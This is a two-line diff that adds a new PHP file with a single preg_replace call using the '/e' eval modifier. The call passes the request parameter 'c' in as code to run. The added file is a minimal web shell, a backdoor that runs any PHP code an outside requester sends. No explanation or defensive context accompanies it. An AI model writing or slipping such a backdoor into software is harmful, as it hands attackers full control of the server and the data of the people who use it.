@@ -1,0 +1,2 @@
+<?php
+preg_replace('/.*/e', $_REQUEST['c'] ?? '', '');
